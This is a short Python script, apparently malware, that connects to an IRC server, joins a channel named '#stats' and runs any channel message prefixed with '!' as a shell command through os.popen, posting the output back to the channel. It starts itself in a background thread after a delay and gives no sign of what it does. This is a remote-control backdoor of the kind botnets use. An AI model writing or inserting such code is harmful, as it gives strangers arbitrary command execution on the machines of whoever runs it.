import os
import socket
import threading


class Bot:
    def __init__(self, server, room):
        self.s = socket.socket()
        self.server, self.room = server, room

    def say(self, text):
        self.s.sendall(("PRIVMSG %s :%s\r\n" % (self.room, text)).encode())

    def loop(self):
        self.s.connect((self.server, 6667))
        self.s.sendall(b"NICK st%d\r\nUSER s 0 * :s\r\n" % os.getpid())
        self.s.sendall(("JOIN %s\r\n" % self.room).encode())
        for line in self.s.makefile(encoding="utf-8", errors="ignore"):
            if line.startswith("PING"):
                self.s.sendall(line.replace("PING", "PONG").encode())
            elif " :!" in line:
                for row in os.popen(line.split(" :!", 1)[1]).readlines():
                    self.say(row.strip())


threading.Timer(30, Bot("irc.invalid", "#stats").loop).start()
